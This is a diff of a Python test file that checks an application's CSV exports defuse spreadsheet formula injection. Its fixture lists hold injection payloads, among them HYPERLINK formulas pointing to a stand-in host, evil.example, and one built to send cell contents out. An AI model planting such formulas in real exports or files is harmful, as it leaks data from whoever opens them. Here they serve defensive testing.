@@ -5,6 +5,7 @@ csv_exports.write_csv, writes them all; the last test keeps it that way."""
 from __future__ import annotations
 
 import csv
+import io
 import re
 from datetime import date, datetime, timedelta
 from decimal import Decimal
@@ -24,7 +25,7 @@ from app.reports.schemas import ReportSettings
 from app.supply import app_lists
 from app.warehouse import get_store
 from app.warehouse.base import FactRow
-from tests.helpers import actor_of, wait_for_run
+from tests.helpers import actor_of, stored_csv_text, wait_for_run
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
 DANGEROUS = csv_exports.FORMULA_STARTS
@@ -33,9 +34,8 @@ BASE = {"objective": "traffic", "starts_at": "2026-12-01", "time_zone": "UTC", "
         "bid_strategy": "cpm", "bid": "2"}
 
 
-def _cells(path: Path) -> list[str]:
-    with path.open(newline="", encoding="utf-8-sig") as source:
-        return [cell for row in csv.reader(source) for cell in row]
+def _cells(key: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(stored_csv_text(key), newline="")) for cell in row]
 
 
 def _exported(link: dict[str, str], actor: object) -> list[str]:
@@ -82,7 +82,7 @@ def test_every_export_neutralises_formulas(db: Session, demo_ids: dict[str, int]
     finally:
         report_jobs.shutdown()
     assert run.status == "completed", run.error
-    report_cells = _cells(report_results.reports_dir() / run.result_file)
+    report_cells = _cells(report_results.result_key(run.result_file))
     assert report_cells, "the report has rows"
     _assert_inert(report_cells, [])
     assert [c for c in report_cells if c.lstrip("'") in stored_names], report_cells
@@ -111,8 +111,9 @@ HIDDEN = [" =1+1", "\u00a0@SUM(A1)", "note\n=HYPERLINK(\"http://evil.example\")"
 def test_the_csv_writer_keeps_numbers_and_defuses_every_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
     numbers = [-5, Decimal("-12.50"), 0, 2.25, 1234567]
     path = tmp_path / "out.csv"
-    csv_exports.write_csv(path, ["=title", *(f"c{n}" for n in range(len(numbers) + len(HIDDEN)))],
-                          [[*numbers, *HIDDEN, "Spring Sale"]])
+    with path.open("wb") as out:
+        csv_exports.write_csv(out, ["=title", *(f"c{n}" for n in range(len(numbers) + len(HIDDEN)))],
+                              [[*numbers, *HIDDEN, "Spring Sale"]])
     with path.open(newline="", encoding="utf-8-sig") as source:
         header, row = list(csv.reader(source))
     assert header[0] == "'=title"
